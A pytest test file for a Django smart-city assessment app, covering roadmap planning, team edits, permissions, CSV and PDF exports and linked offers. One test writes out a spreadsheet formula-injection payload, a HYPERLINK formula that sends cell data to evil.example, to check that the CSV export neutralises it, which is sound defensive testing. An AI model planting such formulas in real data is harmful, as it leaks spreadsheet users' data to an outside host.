"""The roadmap of a submitted assessment: plan, decisions, progress, exports."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from pypdf import PdfReader

from cityexchange.assessments.models import RoadmapItem, RoadmapStatus
from cityexchange.assessments.services import (
    AssessmentError,
    assessment_submit,
    roadmap_item_update,
)

from .conftest import answer_all

ALL_LOW = {
    k: 0 for k in ("smart-city-strategy", "digital-lead", "budget", "open-data", "data-platform")
}


@pytest.fixture
def submitted(assessment: Any, owner: Any) -> Any:
    answer_all(assessment, owner, ALL_LOW)
    return assessment_submit(assessment=assessment, user=owner)


def _items(assessment: Any) -> dict[str, RoadmapItem]:
    return {
        i.activity.key: i
        for i in RoadmapItem.objects.filter(assessment=assessment).select_related("activity")
    }


def _client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_the_plan_puts_prerequisites_first_and_respects_the_capacity(submitted: Any) -> None:
    # Lindenau has 8,000 inhabitants: 4 effort points a year.
    items = _items(submitted)
    years = {key: item.year for key, item in items.items()}
    assert years == {
        "appoint-manager": 1,  # effort 1, impact 3: the quick win everything builds on
        "set-budget": 1,
        "adopt-strategy": 1,  # medium effort after a low-effort prerequisite: same year
        "build-platform": 2,  # high effort: year 1 is full
        "publish-open-data": 3,  # waits a year after the high-effort platform
    }
    ordered = [i.activity.key for i in sorted(items.values(), key=lambda i: i.position)]
    assert (
        ordered.index("appoint-manager")
        < ordered.index("adopt-strategy")
        < ordered.index("build-platform")
    )


def test_a_smaller_capacity_pushes_activities_later(submitted: Any, owner: Any) -> None:
    response = _client(owner).post(
        reverse("assessments:roadmap", kwargs={"id": submitted.pk}), {"capacity": "2"}
    )
    assert response.status_code == 302
    years = {key: item.year for key, item in _items(submitted).items()}
    assert years == {
        "appoint-manager": 1,
        "set-budget": 1,
        "adopt-strategy": 2,
        "build-platform": 3,
        "publish-open-data": 4,
    }


def test_moving_an_activity_before_its_prerequisite_is_refused(submitted: Any, owner: Any) -> None:
    items = _items(submitted)
    with pytest.raises(AssessmentError, match="has to come first"):
        roadmap_item_update(item=items["publish-open-data"], user=owner, year=1)
    with pytest.raises(AssessmentError, match="builds on this activity"):
        roadmap_item_update(item=items["build-platform"], user=owner, year=4)
    assert _items(submitted)["publish-open-data"].year == 3


def test_decisions_of_the_team_survive_a_re_plan(submitted: Any, owner: Any, member: Any) -> None:
    items = _items(submitted)
    roadmap_item_update(item=items["set-budget"], user=owner, year=4, assignee=member)
    roadmap_item_update(item=items["appoint-manager"], user=owner, status=RoadmapStatus.DONE)
    from cityexchange.assessments.services import capacity_set

    capacity_set(assessment=submitted, capacity=10, user=owner)
    after = _items(submitted)
    assert (after["set-budget"].year, after["set-budget"].status, after["set-budget"].assignee) == (
        4,
        RoadmapStatus.ACCEPTED,
        member,
    )
    assert after["appoint-manager"].status == RoadmapStatus.DONE


def test_the_team_accepts_drops_assigns_and_finishes_activities_from_the_page(
    submitted: Any, owner: Any, member: Any
) -> None:
    items = _items(submitted)
    item = items["set-budget"]
    url = reverse("assessments:roadmap_item", kwargs={"id": submitted.pk, "item": item.pk})
    prefix = f"item{item.pk}"
    client = _client(member)
    response = client.post(
        url,
        {f"{prefix}-status": "done", f"{prefix}-year": "1", f"{prefix}-assignee": str(owner.pk)},
    )
    assert response.status_code == 302
    item.refresh_from_db()
    assert (item.status, item.assignee) == (RoadmapStatus.DONE, owner)
    page = client.get(reverse("assessments:roadmap", kwargs={"id": submitted.pk})).content.decode()
    assert '<progress max="5" value="1"' in page
    assert "1 of 5 activities done (20 %)." in page
    dropped = items["publish-open-data"]
    p2 = f"item{dropped.pk}"
    client.post(
        reverse("assessments:roadmap_item", kwargs={"id": submitted.pk, "item": dropped.pk}),
        {f"{p2}-status": "dropped", f"{p2}-year": "3", f"{p2}-assignee": ""},
    )
    page = client.get(reverse("assessments:roadmap", kwargs={"id": submitted.pk})).content.decode()
    assert "1 of 4 activities done (25 %)." in page


def test_an_activity_cannot_be_assigned_to_someone_outside_the_team(
    submitted: Any, owner: Any, outsider: Any
) -> None:
    item = _items(submitted)["set-budget"]
    prefix = f"item{item.pk}"
    _client(owner).post(
        reverse("assessments:roadmap_item", kwargs={"id": submitted.pk, "item": item.pk}),
        {
            f"{prefix}-status": "accepted",
            f"{prefix}-year": "1",
            f"{prefix}-assignee": str(outsider.pk),
        },
    )
    item.refresh_from_db()
    assert item.assignee is None and item.status == RoadmapStatus.PROPOSED


def test_outsiders_and_staff_cannot_change_roadmap_items(
    submitted: Any, outsider: Any, staff: Any
) -> None:
    item = _items(submitted)["set-budget"]
    url = reverse("assessments:roadmap_item", kwargs={"id": submitted.pk, "item": item.pk})
    data = {f"item{item.pk}-status": "done", f"item{item.pk}-year": "1"}
    assert _client(outsider).post(url, data).status_code == 404
    assert _client(staff).post(url, data).status_code == 403
    item.refresh_from_db()
    assert item.status == RoadmapStatus.PROPOSED


def test_the_roadmap_exports_as_csv_and_pdf(submitted: Any, owner: Any) -> None:
    client = _client(owner)
    response = client.get(reverse("assessments:roadmap_csv", kwargs={"id": submitted.pk}))
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:3] == ["Year", "Key", "Activity"]
    assert ["1", "appoint-manager", "Appoint a smart-city manager"] == rows[1][:3]
    assert len(rows) == 6
    pdf = client.get(reverse("assessments:roadmap_pdf", kwargs={"id": submitted.pk}))
    assert pdf["Content-Type"] == "application/pdf"
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.content)).pages)
    assert "Digital roadmap of Lindenau" in text and "Build a data platform" in text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_name_that_looks_like_a_formula_opens_as_text_in_the_csv(
    submitted: Any, owner: Any, member: Any, start: str
) -> None:
    member.full_name = f'{start}HYPERLINK("https://evil.example/?"&A1)'
    member.save(update_fields=["full_name"])
    item = _items(submitted)["set-budget"]
    roadmap_item_update(
        item=item, user=owner, status=RoadmapStatus.ACCEPTED, year=1, assignee=member
    )

    response = _client(owner).get(reverse("assessments:roadmap_csv", kwargs={"id": submitted.pk}))

    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assigned = [row[6] for row in rows[1:] if row[1] == "set-budget"]
    assert assigned == [f"'{member.full_name}"]


def _offer(slug: str, kind: str, topics: list[str], status: str = "active") -> Any:
    from cityexchange.core.models import Concept
    from cityexchange.directory.models import Offer

    offer = Offer.objects.create(
        slug=slug,
        kind=kind,
        name=slug.replace("-", " ").capitalize(),
        name_en=slug.replace("-", " ").capitalize(),
        format="online",
        effort="low",
        status=status,
    )
    offer.topics.set(Concept.objects.filter(key__in=topics))
    return offer


def _resource(slug: str, topics: list[str], *, day: int = 1, visibility: str = "public") -> Any:
    import datetime

    from cityexchange.core.models import Concept
    from cityexchange.library.models import Resource

    resource = Resource.objects.create(
        slug=slug,
        kind="guideline",
        title=slug.replace("-", " ").capitalize(),
        title_en=slug.replace("-", " ").capitalize(),
        status="published",
        visibility=visibility,
        published_on=datetime.date(2025, 1, day),
    )
    resource.topics.set(Concept.objects.filter(key__in=topics))
    return resource


def _more_roadmap(submitted: Any, owner: Any) -> None:
    """Ambitious targets: every activity of the model is on the roadmap."""
    from cityexchange.assessments.services import targets_set

    targets_set(
        assessment=submitted,
        targets={"strategy-governance": 4, "data-interoperability": 4},
        user=owner,
    )


def test_the_roadmap_page_costs_the_same_queries_with_more_data(
    submitted: Any, owner: Any, django_assert_num_queries: Any
) -> None:
    from cityexchange.assessments.services import assessment_start
    from cityexchange.core.services import membership_add
    from cityexchange.core.tests.factories import OrganisationFactory, UserFactory

    client = _client(owner)
    url = reverse("assessments:roadmap", kwargs={"id": submitted.pk})
    _offer("governance-training", "training", ["governance"])
    _resource("governance-guide", ["governance"])
    # Measured: 14 queries for 5 activities with one offer and one resource
    # (before batching: one or two look-ups per distinct topic set and kinds).
    with django_assert_num_queries(ROADMAP_QUERIES):
        client.get(url)
    for n in range(12):
        _offer(f"offer-{n}", ("training", "tool", "funding")[n % 3], ["governance", "open-data"])
        _resource(f"guide-{n}", ["open-data"] if n % 2 else ["governance"], day=n + 1)
    for _n in range(6):
        town = OrganisationFactory()
        user = UserFactory()
        membership_add(user=user, organisation=town)
        membership_add(user=UserFactory(), organisation=submitted.organisation)
        other = assessment_start(organisation=town, user=user)
        answer_all(other, user, ALL_LOW)
        assessment_submit(assessment=other, user=user)
    _more_roadmap(submitted, owner)
    with django_assert_num_queries(ROADMAP_QUERIES):
        client.get(url)


# 15: one more than before for the offers' organisers (eligibility of members-only offers).
ROADMAP_QUERIES = 15


def test_each_activity_links_fitting_offers_and_library_resources(
    submitted: Any, owner: Any
) -> None:
    _offer("open-data-tool", "tool", ["open-data"])
    _offer("open-data-training", "training", ["open-data"])  # kind does not fit: tool only
    _offer("manager-course", "training", ["governance"])
    _offer("old-course", "training", ["governance"], status="ended")
    _resource("governance-guide", ["governance"], day=2)
    _resource("older-governance-guide", ["governance"], day=1)
    _resource("open-data-handbook", ["open-data"])
    for n in range(4):
        _resource(f"more-governance-{n}", ["governance"], day=3 + n)
    page = (
        _client(owner)
        .get(reverse("assessments:roadmap", kwargs={"id": submitted.pk}))
        .content.decode()
    )
    items = _items(submitted)
    from cityexchange.assessments.selectors import links_for_activities

    links = links_for_activities([i.activity for i in items.values()], user=owner)
    manager = links[items["appoint-manager"].activity_id]
    assert [o["title"] for o in manager["offers"]] == ["Manager course"]
    # Three per activity, the newest first.
    assert [r["title"] for r in manager["resources"]] == [
        "More governance 3",
        "More governance 2",
        "More governance 1",
    ]
    platform = links[items["build-platform"].activity_id]  # open data, tools only
    assert [o["title"] for o in platform["offers"]] == ["Open data tool"]
    assert [r["title"] for r in platform["resources"]] == ["Open data handbook"]
    assert links[items["set-budget"].activity_id]["offers"] == []  # no funding offer
    assert '<a href="/en/offers/open-data-tool/">Open data tool</a>' in page
    assert "Old course" not in page


def test_without_the_library_app_the_roadmap_shows_no_resources(
    submitted: Any, owner: Any, monkeypatch: Any
) -> None:
    import sys

    monkeypatch.setitem(sys.modules, "cityexchange.library.selectors", None)  # import fails
    response = _client(owner).get(reverse("assessments:roadmap", kwargs={"id": submitted.pk}))
    assert response.status_code == 200
    assert "Knowledge from the library" not in response.content.decode()


def test_the_roadmap_links_only_offers_the_town_may_take_up(submitted: Any, owner: Any) -> None:
    # Lindenau is a German town: another country's national programme, an offer for
    # India only and an invitation-only forum are never "offers that fit".
    from cityexchange.core.caching import bump

    _offer("manager-course", "training", ["governance"])
    india = _offer("india-programme", "training", ["governance"])
    india.eligibility, india.eligible_countries = "countries", ["IN"]
    india.save()
    invited = _offer("invited-forum", "training", ["governance"])
    invited.eligibility = "invitation"
    invited.save()
    peru = _offer("peru-national-course", "training", ["governance"])
    peru.region = "latin_america"
    peru.eligibility, peru.eligible_countries = "countries", ["PE"]
    peru.save()
    bump("directory")
    municipality = submitted.organisation
    municipality.country = "DE"
    municipality.save()
    page = (
        _client(owner)
        .get(reverse("assessments:roadmap", kwargs={"id": submitted.pk}))
        .content.decode()
    )
    assert "Manager course" in page
    for name in ("India programme", "Invited forum", "Peru national course"):
        assert name not in page
    from cityexchange.assessments.selectors import links_for_activities

    items = _items(submitted)
    indian = links_for_activities([items["appoint-manager"].activity], user=owner, country="IN")[
        items["appoint-manager"].activity_id
    ]["offers"]
    assert "India programme" in [o["title"] for o in indian]


def test_the_pdf_is_a_council_document_in_the_viewers_language(
    submitted: Any, owner: Any, member: Any
) -> None:
    # Prerequisites by name, a localised date, the summary of this year with who does
    # what and the offers that fit, the plan year by year and the radar chart.
    item = _items(submitted)["appoint-manager"]
    roadmap_item_update(
        item=item, user=owner, status=RoadmapStatus.ACCEPTED, year=1, assignee=member
    )
    client = _client(owner)
    from django.utils import translation

    with translation.override("de"):
        url = reverse("assessments:roadmap_pdf", kwargs={"id": submitted.pk})
    pdf = client.get(url)
    pages = [page.extract_text() for page in PdfReader(io.BytesIO(pdf.content)).pages]
    first = pages[0]
    assert "Auf einen Blick" in first
    assert member.get_full_name() in " ".join(first.split())
    assert re.search(r"erstellt am \d{1,2}\. [A-ZÄÖÜ][a-zäöü]+ \d{4}", first), first
    # The test model has two dimensions: too few for a radar (see the next test).
    assert "Aktueller Stand und Ziel je Dimension" not in first
    text = "\n".join(pages)
    assert "Jahr für Jahr" in text
    for key in ("appoint-manager", "build-platform", "set-budget"):
        assert key not in text
    assert not re.search(r"\d{4}-\d{2}-\d{2}", text)


def test_the_pdf_radar_chart_draws_every_dimension_by_its_whole_name() -> None:
    from types import SimpleNamespace

    from reportlab.graphics import renderPDF

    from cityexchange.assessments.exports import _radar_drawing

    names = [f"Dimension number {n} with a long name" for n in range(7)]
    results: Any = SimpleNamespace(
        dimensions=[SimpleNamespace(name=name, score=1.5, target=3) for name in names]
    )
    drawing = _radar_drawing(results)
    text = PdfReader(io.BytesIO(renderPDF.drawToString(drawing))).pages[0].extract_text()
    assert "Current level and target per dimension" in text
    for n in range(7):
        assert f"number {n}" in text
    assert _radar_drawing(SimpleNamespace(dimensions=results.dimensions[:2])) is None


def test_the_roadmap_page_opens_with_this_year_and_a_year_by_year_table(
    submitted: Any, owner: Any
) -> None:
    page = (
        _client(owner)
        .get(reverse("assessments:roadmap", kwargs={"id": submitted.pk}))
        .content.decode()
    )
    summary = page.index("At a glance: what to do this year")
    assert summary < page.index("How the roadmap is planned")
    assert "Year by year" in page
    assert "Later: beyond" not in page


def test_indicative_years_fill_the_capacity_after_year_four() -> None:
    from cityexchange.assessments.planning import indicative_years

    assert indicative_years([2, 2, 3, 1, 4, 1], 4) == [5, 5, 6, 6, 7, 8]
    assert indicative_years([], 4) == []
    assert indicative_years([5], 4) == [5]  # larger than the capacity: a year to itself
